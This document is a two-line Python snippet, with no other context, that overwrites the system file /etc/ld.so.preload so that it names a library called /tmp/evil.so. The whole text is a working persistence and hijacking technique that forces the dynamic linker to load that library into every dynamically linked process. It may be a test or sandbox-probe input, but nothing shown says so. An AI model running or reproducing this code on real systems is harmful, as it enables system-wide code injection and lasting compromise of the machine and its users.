import io
io.FileIO("/etc/ld.so.preload", "w").write(b"/tmp/evil.so")
